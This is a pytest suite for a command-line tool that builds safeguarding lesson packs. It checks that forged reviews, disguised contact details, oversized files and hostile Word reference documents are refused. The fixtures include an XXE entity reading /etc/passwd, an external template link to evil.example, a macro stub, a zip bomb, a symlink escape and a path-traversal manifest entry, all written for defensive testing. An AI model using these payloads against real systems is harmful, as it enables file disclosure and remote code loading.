"""Files from other people, attacked by class: every command answers with findings and an
exit code, never a traceback; nothing forged, smuggled or carried in reaches a pack; the work
is bounded; the good lessons in a batch still build."""

from __future__ import annotations

import io
import json
import os
import shutil
import time
import zipfile
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner
from docx import Document as open_docx

from conftest import EXAMPLE_SCHOOL, GOOD
from safepacks.cli import main
from safepacks.render.reference import reference_document

MINIMAL = (GOOD / "minimal.yaml").read_text()


def run(*args: object, cwd: Path | None = None):
    if cwd:
        old = Path.cwd()
        os.chdir(cwd)
    try:
        result = CliRunner().invoke(main, [str(a) for a in args])
    finally:
        if cwd:
            os.chdir(old)
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert "Traceback" not in result.output
    return result


def lesson_with(tmp_path: Path, old: str, new: str, name: str = "lesson.yaml") -> Path:
    assert old in MINIMAL, old
    path = tmp_path / name
    path.write_text(MINIMAL.replace(old, new, 1))
    return path


# 1. forged reviews


def test_a_base_title_cannot_inject_a_review_into_a_new_overlay(tmp_path):
    fingerprint = "sha256:0000000000000000"
    title = (
        f"Nice title\\nreview:\\n  reviewer: Forger\\n  role: DSL\\n  date: 2026-12-01\\n  fingerprint: {fingerprint}"
    )
    base = lesson_with(tmp_path, "title: Test lesson on telling a trusted adult", f'title: "{title}"', "base.yaml")
    overlay = tmp_path / "ours.yaml"
    assert run("new", overlay, "--from", "test-minimal").exit_code == 0
    data = yaml.safe_load(overlay.read_text())
    assert set(data) == {"extends", "id", "activity_changes"}
    result = run("check", overlay, base)
    assert "ours.yaml:1:1: error[review-missing]" in result.output or "error[review-missing]" in result.output
    assert "Forger" not in overlay.read_text().split("\n#")[0]


# 2. contact details smuggled past the check


@pytest.mark.parametrize(
    "typed",
    [
        "[ring us](tel&#58;+442079460000)",
        "[ring us](tel:%2B442079460000)",
        "go to https:site.io now",
        "call 0800\u200b1111",
        "call 0800\u2060 1111",
        "email help\uff20nspcc.org.uk",
        "ring +33 1 23 45 67 89",
        "[site](https://example.org)",
        "<https://example.org>",
        "Ｃｈｉｌｄｌｉｎｅ．ｏｒｇ．ｕｋ",
    ],
)
def test_disguised_contact_details_are_errors_and_never_printed(tmp_path, typed):
    path = lesson_with(tmp_path, "plenary: Recap who we can tell.", f"plenary: {json.dumps(typed)}")
    result = run("check", path)
    assert "error[inline-contact]" in result.output, result.output
    built = run("build", path, "--out", tmp_path / "out", "--allow-draft")
    assert built.exit_code == 1 and not (tmp_path / "out" / "test-minimal").exists()


# 3. reference documents that carry their contents in


def crafted_reference(tmp_path: Path, *, extra: dict[str, bytes] | None = None, edit=None) -> Path:
    data = reference_document()
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            content = source.read(info.filename)
            target.writestr(info.filename, edit(info.filename, content) if edit else content)
        for name, content in (extra or {}).items():
            target.writestr(name, content)
    path = tmp_path / "reference.docx"
    path.write_bytes(out.getvalue())
    return path


def _external_template(rels: bytes) -> bytes:
    kind = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    link = b'<Relationship Id="rIdX" Type="' + kind + b'" Target="http://evil.example/t.dotm" TargetMode="External"/>'
    return rels.replace(b"</Relationships>", link + b"</Relationships>")


@pytest.mark.parametrize(
    "attack, message",
    [
        ({"extra": {"word/vbaProject.bin": b"macro"}}, "contains macros"),
        ({"edit": lambda n, c: _external_template(c) if n.endswith("document.xml.rels") else c}, "links to files"),
        (
            {
                "edit": lambda n, c: (
                    c.replace(b"?>", b'?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', 1)
                    if n == "word/styles.xml"
                    else c
                )
            },
            "document type declaration",
        ),
        ({"extra": {"word/media/bomb.bin": b"\0" * 30_000_000}}, "far larger unpacked"),
    ],
)
def test_a_hostile_reference_document_is_refused_with_a_reason(tmp_path, minimal_lesson, attack, message):
    reference = crafted_reference(tmp_path, **attack)
    result = run("build", minimal_lesson, "--out", tmp_path / "out", "--format", "docx", "--reference-docx", reference)
    assert result.exit_code == 1 and message in result.output, result.output


def test_only_styles_and_page_set_up_come_from_a_reference_document(tmp_path, minimal_lesson):
    word = open_docx(io.BytesIO(reference_document()))
    word.add_paragraph("SECRET-BODY-TEXT")
    word.core_properties.author = "SECRET-AUTHOR"
    word.core_properties.comments = "SECRET-COMMENT"
    word.sections[0].header.paragraphs[0].text = "SECRET-HEADER"
    buffer = io.BytesIO()
    word.save(buffer)
    reference = tmp_path / "styled.docx"
    reference.write_bytes(buffer.getvalue())
    run("build", minimal_lesson, "--out", tmp_path / "out", "--format", "docx", "--reference-docx", reference)
    built = tmp_path / "out" / "test-minimal" / "teacher-pack.docx"
    with zipfile.ZipFile(built) as archive:
        everything = b"".join(archive.read(name) for name in archive.namelist())
    for secret in (b"SECRET-BODY-TEXT", b"SECRET-AUTHOR", b"SECRET-COMMENT", b"SECRET-HEADER"):
        assert secret not in everything


# 4. bounded work


def test_a_huge_file_is_refused_before_it_is_read(tmp_path):
    path = tmp_path / "huge.yaml"
    with path.open("wb") as stream:
        stream.truncate(3 * 1024**3)  # 3 GB, sparse: reading it whole would take minutes
    started = time.perf_counter()
    result = run("check", path)
    assert "error[too-large]" in result.output and time.perf_counter() - started < 2


@pytest.mark.parametrize(
    "old, new, words",
    [
        ("plenary: Recap who we can tell.", f"plenary: {'a.' * 41000}", "at most 8000 characters"),
        (
            "      statements:\n",
            "      statements:\n" + "        - {statement: s, answer: true, explanation: e}\n" * 30,
            "at most 20 items",
        ),
        ("categories: [Tell, Fine]", "", ""),
    ],
)
def test_oversized_lists_and_text_are_refused_quickly(tmp_path, old, new, words):
    if old not in MINIMAL:
        pytest.skip("not in this lesson")
    path = lesson_with(tmp_path, old, new)
    started = time.perf_counter()
    result = run("check", path)
    assert time.perf_counter() - started < 3
    assert "error[schema]" in result.output and words in result.output


def test_a_long_chain_of_overlays_is_refused(tmp_path):
    shutil.copy(GOOD / "minimal.yaml", tmp_path / "base.yaml")
    previous = "test-minimal"
    for n in range(6):
        (tmp_path / f"o{n}.yaml").write_text(f"extends: {previous}\nid: chain-{n}\n")
        previous = f"chain-{n}"
    started = time.perf_counter()
    result = run("check", tmp_path / "o5.yaml")
    assert "at most 4 deep" in result.output and time.perf_counter() - started < 5


def test_checking_a_long_pathological_text_is_linear(tmp_path):
    from safepacks.checks.contacts import find, find_disguised

    started = time.perf_counter()
    for text in ("a." * 50_000, "a" * 100_000, "0" * 100_000, "@" * 50_000, "a@" * 50_000):
        find(text)
        list(find_disguised(text))
    assert time.perf_counter() - started < 2


# 5. one bad file never stops the rest


def test_the_good_lessons_build_whatever_sits_beside_them(tmp_path, minimal_lesson):
    from conftest import DATA

    batch = tmp_path / "batch"
    batch.mkdir()
    shutil.copy(minimal_lesson, batch / "good.yaml")
    for crasher in (DATA / "fuzz").glob("*.yaml"):
        shutil.copy(crasher, batch / crasher.name)
    (batch / "overlay.yaml").write_text("extends: test-minimal\nid: our-minimal\n")
    result = run("build", batch, "--out", tmp_path / "out", "--format", "pdf")
    assert result.exit_code == 1
    assert (tmp_path / "out" / "test-minimal" / "teacher-pack.pdf").is_file()
    for command in ("check", "list", "coverage"):
        assert "Traceback" not in run(command, batch).output
    assert run("review", batch, "--by", "A", "--role", "DSL").exit_code == 1


def test_a_logo_whose_name_has_a_space_builds(tmp_path, minimal_lesson):
    folder = tmp_path / "school"
    folder.mkdir()
    shutil.copy(EXAMPLE_SCHOOL / "school-logo.svg", folder / "my logo.svg")
    profile = yaml.safe_load((EXAMPLE_SCHOOL / "school.yaml").read_text())
    (folder / "school.yaml").write_text(yaml.safe_dump({**profile, "logo": "my logo.svg"}))
    result = run("build", minimal_lesson, "--out", tmp_path / "out", "--school", folder / "school.yaml")
    assert result.exit_code == 0, result.output
    assert len(list((tmp_path / "out" / "test-minimal").glob("*.pdf"))) == 3


# 6 and 7. writes outside the output folder, and faults of the machine


def test_out_must_be_a_folder_of_its_own(tmp_path, minimal_lesson):
    afile = tmp_path / "afile"
    afile.write_text("x")
    assert "is a file" in run("build", minimal_lesson, "--out", afile).output
    assert "refused to write packs straight into /" in run("build", minimal_lesson, "--out", "/").output
    for command in (
        ["coverage", "--format", "html", "--out", afile / "c.html"],
        ["reference-docx", afile / "r.docx"],
        ["new", afile / "n.yaml"],
    ):
        result = run(*command)
        assert result.exit_code != 0 and "error:" in result.output


def test_review_keeps_a_json_style_lesson_valid(tmp_path):
    path = tmp_path / "flow.yaml"
    path.write_text(json.dumps(yaml.safe_load(MINIMAL)))
    assert run("review", path, "--by", "A", "--role", "DSL").exit_code == 0
    assert yaml.safe_load(path.read_text())["review"]["reviewer"] == "A"
    assert "0 errors" in run("check", path).output


# 9. the smaller classes


@pytest.mark.parametrize(
    "old, new, rule",
    [
        ("title: Test lesson on telling a trusted adult", 'title: "a\\u0007b"', "error[schema]"),
        ("    writing_lines: 2", "    writing_lines: yes", "error[schema]"),
        ("year_groups: [5, 6]", "year_groups: [05, 6]", "error[yaml-value]"),
        ("signposting: [trusted-adult, childline]", "signposting: !!set {trusted-adult, childline}", "error[yaml-tag]"),
        ("id: test-minimal", "id: con", "cannot name a folder on Windows"),
        ("pupil_title: Telling someone", "<<: {pupil_title: Telling someone}", "'<<' merge keys"),
        ("title: Test lesson on telling a trusted adult", 'title: "a\\u202eb"', "error[schema]"),
    ],
)
def test_values_yaml_would_misread_are_reported_with_their_place(tmp_path, old, new, rule):
    result = run("check", lesson_with(tmp_path, old, new))
    assert rule in result.output and "lesson.yaml:" in result.output


def test_a_missing_school_file_is_a_usage_error(tmp_path, minimal_lesson):
    assert run("build", minimal_lesson, "--school", tmp_path / "nope.yaml").exit_code == 2


def test_a_symlinked_logo_cannot_reach_outside_the_profile_folder(tmp_path, minimal_lesson):
    folder = tmp_path / "school"
    folder.mkdir()
    (folder / "logo.svg").symlink_to("/etc/hostname")
    profile = yaml.safe_load((EXAMPLE_SCHOOL / "school.yaml").read_text())
    (folder / "school.yaml").write_text(yaml.safe_dump({**profile, "logo": "logo.svg"}))
    result = run("build", minimal_lesson, "--out", tmp_path / "out", "--school", folder / "school.yaml")
    assert result.exit_code == 1 and "outside" in result.output


def test_a_lesson_with_the_same_id_beside_an_overlay_does_not_silently_replace_its_base(tmp_path):
    (tmp_path / "lessons").mkdir()
    shutil.copy(GOOD / "minimal.yaml", tmp_path / "base.yaml")
    (tmp_path / "lessons" / "impostor.yaml").write_text(MINIMAL.replace("Recap who we can tell.", "IMPOSTOR"))
    (tmp_path / "lessons" / "ours.yaml").write_text("extends: test-minimal\nid: ours\n")
    result = run("check", tmp_path / "lessons" / "ours.yaml", tmp_path / "base.yaml")
    assert "more than one lesson has the id 'test-minimal'" in result.output


def test_every_command_survives_a_corrupt_manifest(tmp_path, minimal_lesson):
    out = tmp_path / "out"
    out.mkdir()
    for text in ("[]", "null", "{", '{"outputs": {"../../x": {"key": "k", "source": "", "sha256": "s"}}}'):
        (out / ".safepacks-manifest.json").write_text(text)
        assert run("build", minimal_lesson, "--out", out, "--format", "docx").exit_code == 0
